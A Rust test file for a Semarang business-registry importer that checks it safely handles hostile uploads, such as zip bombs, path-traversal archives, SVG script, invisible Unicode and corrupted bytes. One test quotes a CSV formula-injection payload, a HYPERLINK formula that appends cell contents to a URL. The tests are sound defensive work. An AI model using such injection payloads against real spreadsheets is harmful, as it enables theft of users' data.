//! Files that mean harm, or were made by accident so that they do. Runs when the folder is there
//! and says when it is not.

#![expect(clippy::unwrap_used, reason = "a test may stop at what should not be")]

mod kit;

use kit::{codes, import, import_as, semarang, shared};
use lists::{DuplicateOf, Fate, Field, Mapping, Report, SheetTexts};

fn imported(file: &str) -> Option<Report> {
    let path = shared("data/public/hostile")?.join(file);
    Some(import(&semarang(), file, &std::fs::read(path).unwrap()))
}

fn names(report: &Report) -> Vec<&str> {
    report.rows.iter().filter_map(|row| Some(row.business.as_ref()?.name.as_str())).collect()
}

#[test]
fn formulas_in_names_stay_names_also_in_the_report() {
    let Some(report) = imported("csv-formula-injection.csv") else { return };
    assert_eq!(report.summary.accepted + report.summary.review, 13);
    let names = names(&report);
    assert_eq!(names[0], "=HYPERLINK(\"http://127.0.0.1:9/x?d=\"&A2,\"klik\")");
    assert!(names.contains(&"@anyaastore (nama toko yang sah)"));
    let book = report.xlsx(&SheetTexts::indonesian()).unwrap();
    let again = import(&semarang(), "laporan.xlsx", &book);
    assert_eq!(again.summary.rows, 13, "every row of the report is text");
    assert!(!codes(&again).contains_key("formula-without-value"));
    let unpacked = sheet_xml(&book);
    assert!(!unpacked.contains("<f>") && unpacked.contains("t=\"inlineStr\""));
}

#[test]
fn people_read_words_in_the_workbook_and_programs_find_codes_in_the_json() {
    let csv = "Nama Usaha;NIK;Kecamatan\nToko Rekaan;33740157038500;Gajahmungkur\n";
    let report = import(&semarang(), "nik.csv", csv.as_bytes());
    assert!(codes(&report).contains_key("nik-length"));
    let unpacked = sheet_xml(&report.xlsx(&SheetTexts::indonesian()).unwrap());
    assert!(unpacked.contains("NIK") && !unpacked.contains("nik-length"));
}

fn sheet_xml(book: &[u8]) -> String {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(book)).unwrap();
    let mut xml = String::new();
    for number in [1, 2] {
        let name = format!("xl/worksheets/sheet{number}.xml");
        archive.by_name(&name).unwrap().read_to_string(&mut xml).unwrap();
    }
    xml
}

#[test]
fn encodings_and_line_ends_do_not_matter() {
    for (file, expected) in [
        ("csv-utf16le-bom.csv", vec!["Batik Ayu", "Tempe é Ñ"]),
        ("csv-cp1252.csv", vec!["Café “Sari” – Mangkang", "Gado² Bu Tun"]),
        ("csv-cr-only.csv", vec!["A", "B"]),
        ("xlsx-is-really-csv.xlsx", vec!["A"]),
        ("xls-is-really-html.xls", vec!["Toko A"]),
    ] {
        let Some(report) = imported(file) else { return };
        assert_eq!(names(&report), expected, "{file}");
        assert_eq!(report.summary.refused_file, None, "{file}");
    }
}

#[test]
fn signs_that_cannot_be_seen_are_gone_and_look_alikes_are_told() {
    let Some(report) = imported("csv-bidi-zero-width-homoglyph.csv") else { return };
    let names = names(&report);
    assert_eq!(names.len(), 7);
    assert_eq!(&names[..2], ["otreK", "Bakso Pak Man"]);
    assert_eq!(names[4], "Kedai Kopi");
    assert_eq!(names[6], "és teh", "composed");
    assert_eq!(report.rows[2].fate, Fate::Review);
    assert_eq!(report.rows[2].problems[0].code.as_str(), "name-alphabets");
    let hidden = |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}');
    assert!(!names.iter().any(|name| name.contains(hidden)));
}

#[test]
fn two_columns_of_one_title_are_asked_about() {
    let file = "csv-duplicate-headers.csv";
    let Some(report) = imported(file) else { return };
    assert_eq!(report.summary.refused_file.as_deref(), Some("columns-unclear"));
    let told = [
        ("nama", Some(Field::Name)),
        ("nama#2", Some(Field::Owner)),
        ("alamat", Some(Field::Street)),
        ("alamat#2", Some(Field::Village)),
    ];
    let mapping =
        Mapping { columns: told.into_iter().map(|(key, field)| (key.to_owned(), field)).collect() };
    let bytes = std::fs::read(shared("data/public/hostile").unwrap().join(file)).unwrap();
    let report = import_as(&semarang(), file, &bytes, Some(&mapping));
    let business = report.rows[0].business.as_ref().unwrap();
    assert_eq!((business.name.as_str(), business.owner.as_deref()), ("Toko A", Some("Sari")));
    assert_eq!(business.region.as_ref().unwrap().as_str(), "33.74.07.1005");
}

#[test]
fn formulas_without_a_value_count_as_empty_with_a_warning() {
    let Some(report) = imported("xlsx-formula-cells.xlsx") else { return };
    assert_eq!(report.summary.rows, 2);
    assert_eq!(codes(&report)["formula-without-value"], 6);
    assert_eq!(report.rows[0].fate, Fate::Refused, "its name was a formula");
    assert_eq!(report.rows[1].business.as_ref().unwrap().nib, None);
}

#[test]
fn packed_files_are_measured_and_never_unpacked_to_disk() {
    let Some(bomb) = imported("xlsx-zip-bomb-small.xlsx") else { return };
    assert_eq!(bomb.summary.refused_file.as_deref(), Some("too-large"));
    let symlink = imported("zip-symlink-and-dotdot.zip").unwrap();
    assert_eq!(symlink.summary.refused_file.as_deref(), Some("unknown-kind"));
    for file in ["xlsx-path-traversal.xlsx", "xlsx-external-link.xlsx"] {
        let report = imported(file).unwrap();
        assert_eq!((report.summary.rows, report.summary.accepted), (5, 5), "{file}");
    }
    assert!(!std::path::Path::new("/tmp/pwned.txt").exists());
    assert!(!std::path::Path::new("/abs/pwned.txt").exists());
}

#[test]
fn a_business_number_is_read_in_all_its_forms_and_never_completed() {
    let Some(report) = imported("xlsx-nib-forms.xlsx") else { return };
    let nib = |line: usize| {
        let business = report.rows[line - 2].business.as_ref().unwrap();
        business.nib.as_ref().map(|nib| nib.as_str().to_owned())
    };
    let told = |line: usize, code: &str| {
        report.rows[line - 2].problems.iter().any(|problem| problem.code.as_str() == code)
    };
    for line in [2, 3, 7, 8, 9, 11] {
        assert_eq!(nib(line).as_deref(), Some("9120012345678"), "row {line}");
        let twin = &report.rows[line - 2].duplicate_of;
        let same = matches!(twin, Some(DuplicateOf::Line { line: 2, .. }));
        assert_eq!(same, line != 2, "row {line}");
    }
    assert_eq!(nib(4).as_deref(), Some("9120012345680"), "its digits were lost before");
    assert_eq!(nib(5).as_deref(), Some("0220012345678"));
    assert!(told(5, "nib-zero-restored") && report.rows[3].fate == Fate::Review);
    assert!(nib(6).is_none() && told(6, "nib-digits-lost"));
    assert!(nib(10).is_none() && told(10, "nib-twelve-digits"));
}

#[test]
fn files_that_nobody_can_agree_on_are_refused_with_a_code() {
    for (file, code) in [
        ("csv-empty.csv", "empty"),
        ("json-duplicate-keys.json", "repeated-keys"),
        ("geojson-swapped.geojson", "wrong-geometry"),
        ("geojson-nan.geojson", "damaged"),
        ("naughty-strings.json", "no-table"),
        ("img-png-named.jpg", "unknown-kind"),
        ("img-svg-script.svg", "unknown-kind"),
        ("img-bomb-12000x12000-1bit.png", "unknown-kind"),
    ] {
        let Some(report) = imported(file) else { return };
        assert_eq!(report.summary.refused_file.as_deref(), Some(code), "{file}");
        assert!(!report.refusal().unwrap().is_empty(), "{file}");
    }
    let money = imported("json-negative-money.json").unwrap();
    assert_eq!((money.summary.rows, money.summary.refused_file.is_some()), (0, true));
}

#[test]
fn unknown_keys_are_dropped() {
    let Some(report) = imported("json-proto.json") else { return };
    assert_eq!(names(&report), ["A"]);
    let json = serde_json::to_string(&report.rows).unwrap();
    assert!(!json.contains("admin") && !json.contains("proto"));
}

#[test]
fn naughty_strings_are_names_like_any_other() {
    let Some(path) = shared("data/public/hostile/naughty-strings.json") else { return };
    let text = std::fs::read_to_string(path).unwrap();
    let strings: Vec<String> = serde_json::from_str(&text).unwrap();
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    for delimiter in [';', ',', '\t'] {
        let mut csv = ["Nama Usaha", "Pemilik", "NIB", "Telepon"].join(&delimiter.to_string());
        for (number, name) in strings.iter().enumerate() {
            let nib = format!("91200{number:08}");
            let cells = [quoted(name), quoted("Sari"), nib, "08123456789".to_owned()];
            csv.push_str(&format!("\n{}", cells.join(&delimiter.to_string())));
        }
        let report = import(&semarang(), "naughty.csv", csv.as_bytes());
        assert_eq!(report.rows.len(), strings.len());
        assert!(report.rows.iter().all(|row| row.duplicate_of.is_none()));
        report.xlsx(&SheetTexts::indonesian()).unwrap();
        serde_json::to_string(&report).unwrap();
    }
}

#[test]
fn broken_bytes_never_panic() {
    let Some(folder) = shared("data/public/hostile") else { return };
    let more = shared("data/public/registry/derived-spreadsheets").unwrap();
    for entry in std::fs::read_dir(folder).unwrap().chain(std::fs::read_dir(more).unwrap()) {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        let name = path.file_name().unwrap().to_str().unwrap().to_owned();
        if name.ends_with(".truth.json") || bytes.len() < 40 {
            continue;
        }
        for part in 1..4 {
            let cut = &bytes[..bytes.len() * part / 4];
            import(&semarang(), &name, cut);
            let mut bent = bytes.clone();
            let place = bytes.len() * part / 5;
            bent[place] ^= 0x55;
            bent[place / 2] ^= 0xff;
            import(&semarang(), &name, &bent);
        }
    }
}
